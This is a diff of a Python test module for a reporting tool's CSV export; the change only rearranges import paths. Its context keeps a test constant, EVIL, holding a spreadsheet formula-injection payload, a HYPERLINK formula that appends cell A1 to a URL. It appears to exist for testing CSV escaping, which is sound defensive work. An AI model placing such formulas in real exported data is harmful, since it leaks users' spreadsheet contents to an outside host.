@@ -7,11 +7,11 @@ import io
 
 import pytest
 
-from reporter.cells import plain
-from reporter.figures import Table
+from perfanalysis.promql import Sample
+from reporter.asking.gathering import Gathered
+from reporter.figures.figure import Table
+from reporter.formats.cells import plain
 from reporter.formats.csv_table import csv_bytes
-from reporter.gathering import Gathered
-from reporter.promql import Sample
 
 EVIL = '=HYPERLINK("http://example.com/?"&A1)'
 
